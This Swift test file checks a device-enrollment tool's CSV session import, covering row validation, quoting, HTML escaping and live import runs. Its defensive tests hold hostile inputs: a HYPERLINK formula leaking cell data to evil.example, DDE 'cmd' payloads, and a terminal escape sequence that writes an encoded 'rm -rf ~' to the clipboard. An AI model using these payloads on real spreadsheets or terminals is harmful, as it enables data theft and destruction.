import Foundation
import Hummingbird
import HummingbirdTesting
import TapAPI
import TapCore
import TapHTTP
import TapStorage
import TapTestSupport
import Testing

@testable import TapAdmin

@Suite("Session import: reading the CSV")
struct SessionImportReadingTests {
    static let presets: Set<String> = ["apple-ade", "single-sign-in"]

    static func csv(rows: Int, bad: [Int: String] = [:]) -> String {
        var lines = ["serialNumber,platform,userPrincipalName,preset,assetTag,model"]
        for index in 0..<rows {
            // Data rows start on line 2.
            lines.append(
                bad[index + 2]
                    ?? "CART-\(index),ipados,dem\(index)@contoso.example,apple-ade,A-\(index),\"iPad, 10th gen\"")
        }
        return lines.joined(separator: "\n") + "\n"
    }

    @Test func fiveHundredRowsWithThreeBadOnesAreRefusedWholeWithTheirLineNumbers() {
        let text = Self.csv(
            rows: 500,
            bad: [
                17: "CART-X!,ipados,x@contoso.example,apple-ade,,",
                250: "CART-248,toaster,y@contoso.example,apple-ade,,",
                501: "CART-499,ipados,not-a-upn,no-such-preset,,",
            ])
        guard case .failure(.rows(let bad)) = SessionImport.read(text, presets: Self.presets) else {
            Issue.record("expected the bad rows")
            return
        }
        #expect(bad.map(\.line) == [17, 250, 501])
        #expect(bad[0].problems.count == 1 && bad[0].problems[0].hasPrefix("serialNumber"))
        #expect(
            bad[1].problems == ["platform 'toaster' is not one of ios, ipados, android, windows, macos, linux, other"])
        #expect(bad[2].problems.count == 2, "every problem of a row is reported: \(bad[2].problems)")
        #expect(bad[2].description.hasPrefix("line 501: userPrincipalName 'not-a-upn'"))
    }

    @Test func aGoodFileReadsEveryRowWithQuotedFields() throws {
        guard case .success(let rows) = SessionImport.read(Self.csv(rows: 3), presets: Self.presets) else {
            Issue.record("expected rows")
            return
        }
        #expect(rows.map(\.line) == [2, 3, 4])
        #expect(rows[0].request.device?.model == "iPad, 10th gen")
        #expect(rows[0].request.device?.serialNumber.value == "CART-0")
        #expect(rows[0].request.pass?.preset == "apple-ade")
    }

    @Test func fileLevelProblemsAndDuplicateSerials() {
        #expect(SessionImport.read("", presets: Self.presets) == .failure(.file("the file is empty")))
        #expect(
            SessionImport.read("serialNumber,platform,userPrincipalName\nA,ios,a@b.example\n", presets: Self.presets)
                == .failure(.file("line 1: missing column(s) preset")))
        #expect(
            SessionImport.read("serialNumber,platform,userPrincipalName,preset,colour\n", presets: Self.presets)
                == .failure(.file("line 1: unknown column colour")))
        let duplicate =
            "serialNumber,platform,userPrincipalName,preset\nA-1,ios,a@b.example,apple-ade\na-1,ios,b@b.example,apple-ade\n"
        #expect(
            SessionImport.read(duplicate, presets: Self.presets)
                == .failure(.rows([.init(line: 3, problems: ["serialNumber A-1 is already on line 2"])])))
    }

    @Test func csvFieldsWithQuotesAndLineBreaksKeepTheirLineNumbers() {
        let records = CSV.records("a,b\n\"x\ny\",\"say \"\"hi\"\"\"\nlast,row\n")
        #expect(records.map(\.line) == [1, 2, 4])
        #expect(records[1].fields == ["x\ny", "say \"hi\""])
        #expect(CSV.escape("a,b") == "\"a,b\"")
    }

    @Test func cellsASpreadsheetWouldRunAsFormulasAreNeutralised() {
        let formulas = [
            #"=HYPERLINK("http://evil.example/?"&A1,"click")"#, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1",
        ]
        for value in formulas {
            let cell = CSV.spreadsheetCell(value)
            #expect(cell.hasPrefix("\"'"), "\(value) -> \(cell)")
            #expect(CSV.records(cell + "\n").first?.fields == ["'" + value])
        }
        #expect(CSV.spreadsheetCell("A-1") == "A-1", "an ordinary cell is left as it was")
        #expect(CSV.spreadsheetCell("A,7") == "\"A,7\"")

        // A cell of the bench's CSV that comes back in the passes CSV: the asset tag, and a user name may start with '-'.
        let text =
            "serialNumber,platform,userPrincipalName,preset,assetTag\nCART-1,ipados,-x@contoso.example,apple-ade,\"=HYPERLINK(\"\"http://evil.example\"\")\"\n"
        guard case .success(let rows) = SessionImport.read(text, presets: Self.presets) else {
            Issue.record("expected the row to be read")
            return
        }
        let now = Date(timeIntervalSince1970: 1_795_687_200)
        let session = Session(
            id: SessionID(time: now, random: Array(repeating: 1, count: 10)), scenario: .deviceEnrollment,
            storedState: .active,
            site: SiteName("bench-1")!, userPrincipalName: rows[0].request.userPrincipalName, device: nil,
            createdBy: OperatorID(time: now, random: Array(repeating: 2, count: 10)), reason: nil, proofing: nil,
            createdAt: now,
            updatedAt: now, completionDeadline: now, firstUsedAt: nil, closedAt: nil, pass: nil)
        let line = SessionCommand.Import.line(rows[0], SessionView(session, now: now), format: .csv)
        let fields = CSV.records(line + "\n").first?.fields ?? []
        #expect(fields.count == 7)
        #expect(fields.dropFirst().allSatisfy { !"=+-@\t\r".contains($0.first ?? " ") }, "\(line)")
        #expect(fields.contains(#"'=HYPERLINK("http://evil.example")"#) && fields.contains("'-x@contoso.example"))
    }

    @Test func aBadCellIsReportedWithoutItsControlSequences() {
        let hostile = "\u{1B}]0;owned\u{07}\u{1B}[2J\u{1B}]52;c;cm0gLXJmIH4=\u{07}\u{9B}2J"
        let text =
            "serialNumber,platform,userPrincipalName,preset\n\"CART\(hostile)\r\",\"ios\(hostile)\",ada@contoso.example,apple-ade\n"
        guard case .failure(.rows(let bad)) = SessionImport.read(text, presets: Self.presets) else {
            Issue.record("expected the bad row")
            return
        }
        let report = bad.map(\.description).joined()
        #expect(report.hasPrefix("line 2: serialNumber 'CART\u{FFFD}"), "\(report)")
        #expect(!TerminalText.containsActive(report), "\(report.debugDescription)")
        guard
            case .failure(.file(let reason)) = SessionImport.read("serialNumber,col\(hostile)\n", presets: Self.presets)
        else {
            Issue.record("expected the unknown column")
            return
        }
        #expect(!TerminalText.containsActive(reason), "\(reason.debugDescription)")
    }

    @Test func theSlipSheetHoldsOneSlipPerDeviceAndEscapesText() {
        let expires = Date(timeIntervalSince1970: 1_795_690_800)
        let html = SlipSheet.render(
            [
                .init(
                    serialNumber: "CART-1", assetTag: "A-1", model: "iPad", userPrincipalName: "ada@contoso.example",
                    pass: "K7QM-3XRP-HV9T", expires: expires),
                .init(
                    serialNumber: "CART-2", assetTag: nil, model: "<b>", userPrincipalName: "bob@contoso.example",
                    pass: "HV9T-K7QM-3XRP", expires: expires),
            ], title: "Cart 7", now: expires)
        #expect(html.components(separatedBy: "class=\"slip\"").count == 3)
        #expect(html.contains("K7QM-3XRP-HV9T") && html.contains("HV9T-K7QM-3XRP"))
        #expect(html.contains("&lt;b&gt;") && !html.contains("<b>"))
        #expect(html.contains("default-src 'none'"))
        #expect(!html.contains("http://") && !html.contains("https://"), "no outside assets")
    }
}

@Suite("Session import against a live service", .serialized)
struct SessionImportCommandTests {
    @Test func anImportCreatesOneSessionPerRowEvenWhenRunTwiceAndPaperNeedsPolicy() async throws {
        let directory = temporaryDirectory("import")
        defer { try? FileManager.default.removeItem(at: directory) }
        let world = testWorld(clock: TestClock())
        let store = try EnrollmentStore(
            path: directory.appendingPathComponent("db.sqlite").path, world: world, keyring: testKeyring())
        let (admin, adminToken) = try await store.createOperator(NewOperator(name: "admin", role: .admin), by: nil)
        let (_, benchToken) = try await store.createOperator(
            NewOperator(name: "bench", role: .bench, site: SiteName("bench-1")), by: nil)
        let tokenFile = directory.appendingPathComponent("token")
        try benchToken.value.write(to: tokenFile, atomically: true, encoding: .utf8)
        let csvFile = directory.appendingPathComponent("cart.csv")
        try SessionImportReadingTests.csv(rows: 12).write(to: csvFile, atomically: true, encoding: .utf8)
        let badFile = directory.appendingPathComponent("bad.csv")
        try SessionImportReadingTests.csv(rows: 12, bad: [5: "CART-4,ipados,nobody,apple-ade,,"]).write(
            to: badFile, atomically: true, encoding: .utf8)
        let slips = directory.appendingPathComponent("slips.html")
        _ = adminToken

        let (router, _) = buildRouter(
            configuration: ServerConfiguration(), store: store, keyring: testKeyring(), world: world)
        let app = Application(
            router: router, configuration: ApplicationConfiguration(address: .hostname("127.0.0.1", port: 0)))
        try await app.test(.live) { client in
            let remote = ["--server", "http://127.0.0.1:\(try #require(client.port))", "--token-file", tokenFile.path]
            func sessionCount() async throws -> Int {
                try await store.sessions(matching: SessionFilter(), visibleTo: admin.identity, after: nil, limit: 200)
                    .items.count
            }
            #expect(await TapStationCommand.runMain(arguments: ["session", "import", badFile.path] + remote) == 1)
            #expect(try await sessionCount() == 0, "a bad row stops the whole import before anything is created")
            #expect(
                await TapStationCommand.runMain(
                    arguments: ["session", "import", csvFile.path, "--slips", slips.path] + remote) == 1)
            #expect(try await sessionCount() == 0, "paper is refused by default, before anything is created")
            #expect(!FileManager.default.fileExists(atPath: slips.path))

            _ = try await store.patchPolicy(.object(["paperPassesAllowed": .bool(true)]), by: admin.identity)
            #expect(
                await TapStationCommand.runMain(
                    arguments: ["session", "import", csvFile.path, "--slips", slips.path] + remote) == 0)
            #expect(try await sessionCount() == 12)
            let sheet = try String(contentsOf: slips, encoding: .utf8)
            #expect(sheet.components(separatedBy: "class=\"slip\"").count == 13)
            #expect(sheet.contains("CART-11") && sheet.contains("dem11@contoso.example") && sheet.contains("A-11"))
            let attributes = try FileManager.default.attributesOfItem(atPath: slips.path)
            #expect((attributes[.posixPermissions] as? Int) == 0o600)

            // The same file again (a retry after a lost answer): nothing is created twice.
            #expect(
                await TapStationCommand.runMain(
                    arguments: ["session", "import", csvFile.path, "--format", "jsonl"] + remote) == 0)
            #expect(try await sessionCount() == 12)
        }
    }

    @Test func passLinesAreCSVOrJSON() throws {
        let now = Date(timeIntervalSince1970: 1_795_687_200)
        let session = Session(
            id: SessionID(time: now, random: Array(repeating: 1, count: 10)), scenario: .deviceEnrollment,
            storedState: .active,
            site: SiteName("bench-1")!, userPrincipalName: UserPrincipalName("ada@contoso.example")!, device: nil,
            createdBy: OperatorID(time: now, random: Array(repeating: 2, count: 10)), reason: nil, proofing: nil,
            createdAt: now,
            updatedAt: now, completionDeadline: now, firstUsedAt: nil, closedAt: nil, pass: nil)
        let row = SessionImport.Row(
            line: 7,
            request: CreateSessionRequest(
                scenario: .deviceEnrollment, userPrincipalName: UserPrincipalName("ada@contoso.example")!,
                device: DeviceDescription(serialNumber: SerialNumber("CART-7")!, platform: .ios, assetTag: "A,7")))
        let csv = SessionCommand.Import.line(row, SessionView(session, now: now), format: .csv)
        #expect(csv.hasPrefix("7,,\"A,7\",ada@contoso.example,"))
        let json = SessionCommand.Import.line(row, SessionView(session, now: now), format: .jsonl)
        #expect(json.contains(#""line":7"#) && json.contains(#""assetTag":"A,7""#))
    }
}
